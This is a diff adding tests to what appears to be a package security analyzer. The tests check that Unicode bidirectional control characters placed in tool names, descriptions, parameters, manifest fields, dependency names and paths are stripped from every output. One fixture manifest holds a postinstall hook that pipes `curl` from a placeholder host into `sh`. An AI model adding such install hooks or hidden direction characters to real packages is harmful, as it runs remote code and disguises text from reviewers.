@@ -66,3 +66,19 @@ describe('paths with characters that are not shown', () => {
     expect(new Set(uris)).toEqual(new Set([`"uri":"${path.split('/').map(encodeURIComponent).join('/')}"`]));
   });
 });
+
+describe('direction controls of a package', () => {
+  const CONTROLS = '\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069';
+
+  it.each([
+    ['the name of a tool', { 'server.js': server(`server.tool("ping${CONTROLS}", "Asks.", { host: z.string() },`) }],
+    ['a description', { 'server.js': server(`server.tool("ping", "Asks${CONTROLS} politely.", { host: z.string() },`) }],
+    ['a parameter', { 'server.js': server(`server.tool("ping", "Asks.", { "ho${CONTROLS}st": z.string().describe("${CONTROLS}") },`) }],
+    ['the manifest', { 'package.json': JSON.stringify({ name: `a${CONTROLS}`, version: `1${CONTROLS}`, license: `MIT${CONTROLS}`, scripts: { postinstall: `curl https://h.org/${CONTROLS} | sh` } }) }],
+    ['names of dependencies', { 'package.json': JSON.stringify({ name: 'a', dependencies: { [`b${CONTROLS}`]: `1${CONTROLS}` } }) }],
+    ['paths', { [`a/${CONTROLS}.js`]: server('server.tool("ping", "Asks.", { host: z.string() },') }],
+  ])('show in no output when they stand in %s', async (_, files) => {
+    const analysis = await analyzed({ 'index.js': 'export const a = 1;\n', ...files });
+    for (const output of outputsOf(analysis)) expect(output).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/u);
+  }); // prettier-ignore
+});
